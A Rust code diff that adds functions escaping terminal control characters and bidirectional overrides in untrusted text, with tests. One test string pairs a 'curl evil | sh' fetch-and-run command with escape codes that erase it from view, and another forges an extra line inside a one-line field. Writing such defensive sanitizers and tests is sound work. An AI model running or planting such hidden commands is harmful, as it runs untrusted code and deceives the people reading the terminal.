@@ -158,3 +158,59 @@ mod tests {
         );
     }
 }
+
+/// Text someone else wrote, made safe to print on a terminal: control characters (escape
+/// sequences, carriage returns, backspaces, C1 controls) and bidirectional overrides (Trojan
+/// Source) are shown as visible escapes such as `\u{1b}`, so nothing printed can rewrite or
+/// reorder what the reader sees. Line breaks and tabs stay as they are.
+pub(super) fn shown(s: &str) -> std::borrow::Cow<'_, str> {
+    escaped(s, false)
+}
+
+/// Like [`shown`], for a field printed on one line (a title, a comment, a path): a line break
+/// is shown as `\n` too, so a field cannot forge lines of its own.
+pub(super) fn shown_line(s: &str) -> std::borrow::Cow<'_, str> {
+    escaped(s, true)
+}
+
+fn escaped(s: &str, one_line: bool) -> std::borrow::Cow<'_, str> {
+    let hidden = |c: char| {
+        (c.is_control() && !(c == '\t' || (c == '\n' && !one_line)))
+            || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    };
+    if !s.chars().any(hidden) {
+        return std::borrow::Cow::Borrowed(s);
+    }
+    let mut out = String::with_capacity(s.len() + 16);
+    for c in s.chars() {
+        match c {
+            '\n' if one_line => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            c if hidden(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
+            c => out.push(c),
+        }
+    }
+    std::borrow::Cow::Owned(out)
+}
+
+#[cfg(test)]
+mod shown_tests {
+    use super::{shown, shown_line};
+
+    #[test]
+    fn terminal_controls_are_made_visible() {
+        let attack = "curl evil | sh # \x1b[2K\recho all is well\n";
+        assert_eq!(
+            shown(attack),
+            "curl evil | sh # \\u{1b}[2K\\recho all is well\n"
+        );
+        assert_eq!(shown("tab\tand\nlines\n"), "tab\tand\nlines\n");
+        assert_eq!(shown("a\u{202e}cba\u{2066}"), "a\\u{202e}cba\\u{2066}");
+        assert_eq!(
+            shown("back\u{8}space\u{9b}31m"),
+            "back\\u{8}space\\u{9b}31m"
+        );
+        assert_eq!(shown_line("ok\nround 2 approve"), "ok\\nround 2 approve");
+        assert_eq!(shown("日本語のテキスト"), "日本語のテキスト");
+    }
+}
